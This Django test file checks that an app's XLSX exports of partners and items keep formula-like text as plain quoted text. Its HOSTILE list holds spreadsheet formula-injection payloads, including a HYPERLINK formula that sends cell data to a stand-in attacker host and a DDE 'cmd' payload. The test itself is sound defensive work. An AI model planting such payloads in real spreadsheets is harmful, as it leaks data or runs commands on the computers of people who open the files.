"""Spreadsheets people upload and download are not a way in: exported text never runs as a formula."""

from __future__ import annotations

import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from openjxc.catalog import services as catalog
from openjxc.partners import services as partners

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]


def test_exported_text_that_looks_like_a_formula_stays_text(client, shop):
    for n, name in enumerate(HOSTILE):
        partners.create_partner(by=shop.admin, code=f"X{n}", name=name, kind="customer")
    catalog.update_item(shop.flour, by=shop.admin, spec="=1+2")
    client.force_login(shop.admin)
    for url in (reverse("web:partners"), reverse("web:items")):
        content = client.get(url, {"export": "xlsx"}).content
        with zipfile.ZipFile(io.BytesIO(content)) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the file
        ws = load_workbook(io.BytesIO(content)).worksheets[0]
        texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
        assert texts and all(c.data_type == "s" and c.quotePrefix for c in texts)
    values = {c.value for row in load_workbook(io.BytesIO(client.get(reverse("web:partners"), {"export": "xlsx"})
                                                          .content)).worksheets[0].iter_rows() for c in row}
    # kept as typed (XML turns a carriage return into a line feed): a re-import gives the same names back
    assert {h.replace("\r", "\n") for h in HOSTILE} <= values
